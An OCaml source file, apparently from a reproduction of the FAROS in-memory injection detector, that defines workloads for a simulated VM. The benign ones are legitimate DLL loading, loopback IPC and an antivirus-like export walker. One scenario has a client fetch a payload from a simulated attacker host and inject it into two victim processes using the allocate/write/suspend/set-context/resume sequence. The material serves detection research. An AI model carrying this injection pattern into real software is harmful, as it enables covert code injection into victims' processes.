(* Extra benign workloads exercising OS facilities the Table IV corpus does
   not: legitimate DLL loading through the OS loader (visible to dlllist,
   untouched by FAROS) and guest-to-guest loopback IPC. *)

open Faros_vm

(* A DLL exporting one function, and a host that loads it the legitimate
   way: LdrLoadLibrary + LdrGetProcAddress.  The kernel resolves the
   export, the process never reads the export directory, and the module
   shows up in dlllist — the exact opposites of the reflective technique. *)
let helper_dll () =
  Faros_os.Pe.of_program ~name:"helper.dll" ~base:Faros_os.Process.dll_base
    ~exports:[ "double_it" ]
    [
      Progs.lbl "double_it";
      Progs.i (Isa.Add_rr (Isa.r0, Isa.r0));
      Progs.i Isa.Ret;
    ]

let dll_host_image () =
  Faros_os.Pe.of_program ~name:"dll_host.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         [ Progs.lea_label Isa.r1 "dll"; Progs.movi Isa.r2 10 ];
         Progs.syscall Faros_os.Syscall.ldr_load_library;
         [ Progs.lea_label Isa.r1 "fn"; Progs.movi Isa.r2 9 ];
         Progs.syscall Faros_os.Syscall.ldr_get_proc_address;
         [
           Progs.movr Isa.r6 Isa.r0;
           Progs.movi Isa.r0 21;
           Progs.i (Isa.Call_r Isa.r6);
           (* exit code = double_it(21) *)
           Progs.movr Isa.r1 Isa.r0;
           Progs.halt;
         ];
         Progs.cstring "dll" "helper.dll";
         Progs.cstring "fn" "double_it";
       ])

let dll_host () =
  Scenario.make "dll_host"
    ~images:[ ("dll_host.exe", dll_host_image ()); ("helper.dll", helper_dll ()) ]
    ~boot:[ "dll_host.exe" ]

(* Loopback IPC: a server binds port 9000 and polls accept; a client
   connects over 127.0.0.1 and sends a message.  Loopback traffic is
   guest-generated and therefore deterministic — it reaches no actor and
   stays out of the trace. *)
let ipc_port = 9000

let ipc_server_image () =
  Faros_os.Pe.of_program ~name:"ipc_server.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.syscall Faros_os.Syscall.sys_socket;
         [ Progs.movr Isa.r7 Isa.r0 ];
         [ Progs.movr Isa.r1 Isa.r7; Progs.movi Isa.r2 ipc_port ];
         Progs.syscall Faros_os.Syscall.sys_bind;
         [ Progs.movr Isa.r1 Isa.r7 ];
         Progs.syscall Faros_os.Syscall.sys_listen;
         (* poll accept with a bounded budget *)
         [ Progs.movi Isa.r6 2000; Progs.lbl "accept_loop"; Progs.movr Isa.r1 Isa.r7 ];
         Progs.syscall Faros_os.Syscall.sys_accept;
         [
           Progs.i (Isa.Cmp_ri (Isa.r0, -1));
           Asm.Jnz_l "got";
           Progs.i (Isa.Sub_ri (Isa.r6, 1));
           Progs.i (Isa.Cmp_ri (Isa.r6, 0));
           Asm.Jnz_l "accept_loop";
           Progs.halt;
         ];
         [ Progs.lbl "got"; Progs.movr Isa.r7 Isa.r0 ];
         (* poll recv until the client's message lands *)
         [ Progs.movi Isa.r6 2000; Progs.lbl "recv_loop" ];
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "buf";
           Progs.movi Isa.r3 4;
         ];
         Progs.syscall Faros_os.Syscall.sys_recv;
         [
           Progs.i (Isa.Cmp_ri (Isa.r0, 0));
           Asm.Jnz_l "have_data";
           Progs.i (Isa.Sub_ri (Isa.r6, 1));
           Progs.i (Isa.Cmp_ri (Isa.r6, 0));
           Asm.Jnz_l "recv_loop";
           Progs.halt;
         ];
         [ Progs.lbl "have_data" ];
         [ Progs.lea_label Isa.r1 "buf"; Progs.movi Isa.r2 4 ];
         Progs.syscall Faros_os.Syscall.dbg_print;
         [ Progs.halt ];
         Progs.buffer "buf" 8;
       ])

let ipc_client_image () =
  Faros_os.Pe.of_program ~name:"ipc_client.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:"127.0.0.1" ~port:ipc_port;
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "msg";
           Progs.movi Isa.r3 4;
         ];
         Progs.syscall Faros_os.Syscall.sys_send;
         [ Progs.halt ];
         Progs.cstring "msg" "ping";
       ])

let ipc_pair () =
  Scenario.make "ipc_pair"
    ~images:
      [ ("ipc_server.exe", ipc_server_image ()); ("ipc_client.exe", ipc_client_image ()) ]
    ~boot:[ "ipc_server.exe"; "ipc_client.exe" ]


(* A benign export-directory walker: an AV-scanner-like tool that
   legitimately parses the export table from its own (file-loaded, never
   network-touched) code.  This is the precision/recall boundary of the
   file-borne detection rule: the default policy (which needs the file
   rule to catch Fig. 10's hollowing) flags it, the strict netflow-only
   policy does not.  Kept out of the evaluation sweep; the test suite
   documents the tradeoff. *)
let export_walker_image () =
  Faros_os.Pe.of_program ~name:"avscan.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         (* walk the directory like the reflective loader does *)
         [
           Progs.movi Isa.r1
             (Faros_os.Export_table.hash_name "GetTickCount");
           Asm.Call_l "scan";
         ];
         [ Progs.movr Isa.r1 Isa.r0; Progs.halt ];
         Progs.export_scan_sub ~label:"scan";
       ])

let export_walker () =
  Scenario.make "export_walker" ~images:[ ("avscan.exe", export_walker_image ()) ]
    ~boot:[ "avscan.exe" ]

(* One downloaded payload injected into two victims at once: whole-system
   tracking reports both infections in one replay. *)
let multi_target_client () =
  let open Faros_vm in
  let inject target =
    List.concat
      [
        [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r5 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r6 Isa.r0 ];
        [
          Progs.movi Isa.r1 target;
          Progs.movr Isa.r2 Isa.r6;
          Asm.Mov_label (Isa.r3, "pbuf");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        [ Progs.movi Isa.r1 target ];
        Progs.syscall Faros_os.Syscall.nt_suspend_process;
        [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r6 ];
        Progs.syscall Faros_os.Syscall.nt_set_context_thread;
        [ Progs.movi Isa.r1 target ];
        Progs.syscall Faros_os.Syscall.nt_resume_process;
      ]
  in
  Faros_os.Pe.of_program ~name:"multi_client.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:Attack_reflective.attacker_ip
           ~port:Attack_reflective.attacker_port;
         Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
           ~recv_sub:"recvx";
         [ Progs.movr Isa.r5 Isa.r3 ];
         inject 100;
         inject 101;
         [ Progs.halt ];
         Progs.recv_exact_sub ~label:"recvx";
         [ Asm.Align 4 ];
         Progs.buffer "lenbuf" 4;
         Progs.buffer "pbuf" 4096;
       ])

let multi_target () =
  let payload = Payloads.popup ~text:"everywhere" () in
  Scenario.make "multi_target_injection"
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ("firefox.exe", Victims.firefox ());
        ("multi_client.exe", multi_target_client ());
      ]
    ~actors:[ Attack_reflective.attacker_actor ~payload ]
    ~boot:[ "notepad.exe"; "firefox.exe"; "multi_client.exe" ]

let samples () =
  [ ("dll_host", dll_host ()); ("ipc_pair", ipc_pair ()) ]
